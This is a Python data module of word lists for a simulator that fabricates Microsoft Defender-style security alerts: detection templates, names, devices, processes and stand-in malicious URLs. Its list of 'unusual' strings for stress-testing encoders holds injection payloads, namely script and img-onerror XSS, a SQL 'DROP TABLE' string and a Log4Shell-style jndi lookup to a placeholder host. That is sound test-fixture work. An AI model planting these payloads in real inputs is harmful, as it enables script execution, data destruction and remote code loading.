"""Word lists that make generated alerts look like a Defender tenant's: detections, names, oddities.

Texts are written for this simulator; they only resemble the kinds of alerts Defender raises.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Detection:
    title: str
    category: str
    mitre: tuple[str, ...]
    detection_source: str  # Graph member
    severity: str          # Graph member at creation
    evidence: tuple[str, ...]  # evidence kinds besides the device
    description: str
    recommended: str
    threat_family: str | None = None


DETECTIONS: tuple[Detection, ...] = (
    Detection("Suspicious access to LSASS memory", "CredentialAccess", ("T1003", "T1003.001"),
              "microsoftDefenderForEndpoint", "high", ("process", "user"),
              "A process read memory of the LSASS service on {device}.\nTools that do this harvest credentials "
              "of signed-in users.\nProcess: {process}", "Isolate the device and reset the credentials of "
              "users who signed in to it."),
    Detection("Ransomware behavior detected in the file system", "Ransomware", ("T1486",),
              "microsoftDefenderForEndpoint", "high", ("process", "file", "file", "user"),
              "Many files on {device} were renamed with an unknown extension within seconds.\n"
              "This pattern matches ransomware encryption.", "Isolate the device immediately and start "
              "incident response.", "Ransom:Win32/Sodinokibi"),
    Detection("'Mimikatz' credential theft tool", "CredentialAccess", ("T1003", "T1558"),
              "antivirus", "medium", ("file", "process"),
              "The credential theft tool Mimikatz was detected on {device}.\nIt was {verb}.",
              "Check whether the tool was used and rotate exposed credentials.", "HackTool:Win32/Mimikatz"),
    Detection("Suspicious PowerShell command line", "Execution", ("T1059.001",),
              "microsoftDefenderForEndpoint", "medium", ("process", "user"),
              "A PowerShell command with encoded content ran on {device}.\nCommand line: {cmd}",
              "Review the command line and the parent process."),
    Detection("Connection to a known command-and-control server", "CommandAndControl", ("T1071", "T1071.001"),
              "microsoftDefenderForEndpoint", "high", ("process", "ip", "url"),
              "{device} connected to {ip}, an address associated with command-and-control activity.",
              "Block the address and investigate the process that opened the connection."),
    Detection("Possible lateral movement using remote service creation", "LateralMovement", ("T1021.002", "T1569.002"),
              "microsoftDefenderForEndpoint", "medium", ("process", "user", "ip"),
              "A service was created remotely on {device} by {user}.\nThis is common in lateral movement.",
              "Confirm the change with the account owner."),
    Detection("Suspicious scheduled task", "Persistence", ("T1053.005",),
              "microsoftDefenderForEndpoint", "low", ("process", "registryKey"),
              "A scheduled task that runs a script from a temporary folder was created on {device}.",
              "Delete the task if it is not expected."),
    Detection("Malicious file blocked by SmartScreen", "InitialAccess", ("T1566.001",),
              "smartScreen", "informational", ("file", "url"),
              "SmartScreen blocked a download on {device} from {url}.", "No action needed; the file was blocked."),
    Detection("Trojan detected and quarantined", "Malware", ("T1204.002",),
              "antivirus", "low", ("file",),
              "Antivirus detected a trojan on {device}. It was {verb}.", "Run a full scan on the device.",
              "Trojan:Win32/Wacatac"),
    Detection("Suspicious registry modification for persistence", "Persistence", ("T1547.001",),
              "microsoftDefenderForEndpoint", "medium", ("process", "registryValue"),
              "A Run key was added on {device} pointing to an unsigned binary.",
              "Remove the value if it is not expected."),
    Detection("Anomalous account lookups", "Discovery", ("T1087.002", "T1069.002"),
              "microsoftDefenderForEndpoint", "low", ("process", "user"),
              "{user} enumerated domain accounts and groups from {device}.", "Check whether this is admin work."),
    Detection("Sensitive data copied to removable media", "Exfiltration", ("T1052.001",),
              "customDetection", "medium", ("file", "user"),
              "Files from a finance share were copied to a USB drive on {device}.",
              "Contact the user and review the copied files."),
    Detection("Custom TI indicator match", "SuspiciousActivity", ("T1105",),
              "customTi", "medium", ("file", "url"),
              "A file matching a custom indicator was seen on {device}.", "Review the indicator and the file."),
    Detection("Automated investigation found a malicious process", "Execution", ("T1055",),
              "automatedInvestigation", "high", ("process", "file"),
              "The automated investigation of {device} found a process injection.",
              "Approve the pending remediation actions."),
    Detection("Defender Experts: hands-on-keyboard activity", "SuspiciousActivity", ("T1059", "T1078"),
              "microsoftThreatExperts", "high", ("process", "user", "ip"),
              "Experts observed interactive attacker activity on {device} by {user}.",
              "Follow the guidance in the Defender Experts notification."),
    Detection("Suspicious email attachment opened", "InitialAccess", ("T1566.001", "T1204.002"),
              "microsoftDefenderForOffice365", "medium", ("file", "user", "url"),
              "{user} opened an attachment that launched a script on {device}.", "Purge the message from mailboxes."),
    Detection("Tampering with Microsoft Defender settings", "DefenseEvasion", ("T1562.001",),
              "microsoftDefenderForEndpoint", "high", ("process", "registryValue"),
              "Real-time protection was turned off on {device} through the registry.",
              "Restore protection settings and find who changed them."),
    Detection("Unusual sign-in followed by process execution", "InitialAccess", ("T1078",),
              "microsoft365Defender", "medium", ("user", "ip", "process"),
              "{user} signed in from {ip} and ran processes on {device} minutes later.",
              "Confirm the sign-in with the user."),
)

# Newer products that Graph hides behind `unknownFutureValue` (serviceSource, detectionSource, category).
FUTURE_SOURCES: tuple[tuple[str, str, str, str], ...] = (
    ("microsoftDefenderForCloud", "microsoftDefenderForServers", "Suspicious process on a cloud VM", "Execution"),
    ("microsoftDefenderForCloud", "microsoftDefenderForStorage", "Unusual access to a storage account", "Collection"),
    ("microsoftSentinel", "customDetection", "Sentinel analytics rule: brute force against VPN", "CredentialAccess"),
    ("microsoftDefenderForEndpoint", "microsoftDefenderForCloud", "Cloud-detected malware on server", "Malware"),
)

ORG_NAMES = ("contoso", "fabrikam", "northwind", "adatum", "tailspin", "woodgrove", "litware", "wingtip")
DEVICE_PREFIXES = ("fin-ws", "eng-ws", "hr-lt", "srv-sql", "srv-web", "dc", "kiosk", "dev-lt", "ops-ws")
DEFAULT_GROUPS = ("Finance workstations", "Servers", "Engineering", "UnassignedGroup")
OS_PLATFORMS = (("Windows11", 22631, "23H2"), ("Windows10", 19045, "22H2"), ("WindowsServer2022", 20348, "21H2"),
                ("WindowsServer2019", 17763, "1809"), ("Linux", 0, "Ubuntu 22.04"), ("macOS", 0, "14.4"))
FIRST_NAMES = ("anna", "ben", "chloe", "dmitri", "elif", "farid", "grace", "hiro", "ines", "jonas", "kofi",
               "lena", "mateo", "nora", "omar", "priya", "quinn", "rosa", "sven", "tariq", "uma", "viktor")
LAST_NAMES = ("smith", "nguyen", "garcia", "müller", "kowalski", "okafor", "tanaka", "rossi", "haddad", "novak")
# Some people's names carry non-ASCII letters, which must survive every hop intact.
UNICODE_USERS = (("josé.núñez", "José Núñez"), ("zoë.ångström", "Zoë Ångström"), ("li.lei", "李雷"),
                 ("s.ozturk", "Şule Öztürk"), ("y.cohen", "יעל כהן"))
ANALYSTS = ("soc-analyst1@mssp.example", "tier2.lead@mssp.example", "automation@mssp.example")
PROCESSES = (("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"),
             ("rundll32.exe", "C:\\Windows\\System32"), ("cmd.exe", "C:\\Windows\\System32"),
             ("svch0st.exe", "C:\\Users\\Public"),
             ("dumptool.exe", "C:\\Users\\{user}\\AppData\\Local\\Temp"), ("wscript.exe", "C:\\Windows\\System32"))
FILES = ("invoice_2024.docm", "update.exe", "payload.dll", "setup_x64.msi", "report.pdf.exe", "mimikatz.exe")
URLS = ("http://malicious.example.net/dl/update.exe", "https://cdn-updates.example.org/a/b?x=1&y=2",
        "http://198.51.100.23:8080/gate.php")
REGISTRY_KEYS = ("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                 "SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection")
COMMENTS = ("Investigating with the customer.", "Escalated to tier 2.", "Confirmed with the device owner.",
            "Remediation approved.", "Closing: see ticket #4711.")

# Strings that break naive encoders, HTML templates and tables. Each alert marked unusual gets one in its
# title and one in its description.
UNUSUAL_TITLES = (
    "🔥 Ransomware activity 🦠 on endpoint",
    "تنبيه أمني: نشاط مشبوه",
    "Suspicious file \u202egpj.exe",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0357l\u0304g\u0310o process",
    "Hidden\u200bzero\u200dwidth\u200cjoiner\ufeff alert",
    "<script>alert('xss')</script> in command line",
    "\"Quoted\" & 'apostrophes' <b>bold</b>",
    "Unicode 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩🏽‍💻 analyst",
    "Kyrillic Подозрительный процесс and 中文 警报",
    "%s %d {0} ${jndi:ldap://x.example/a} \\ backslash",
)
UNUSUAL_LINES = (
    "Payload: <img src=x onerror=alert(1)> & more",
    "Line with CRLF\r\nand a tab\there",
    "Emoji 🚨🔐 and RTL עברית mixed",
    "Combining e\u0301 vs é and zero\u200bwidth",
    "'; DROP TABLE alerts;-- \"x\"",
)
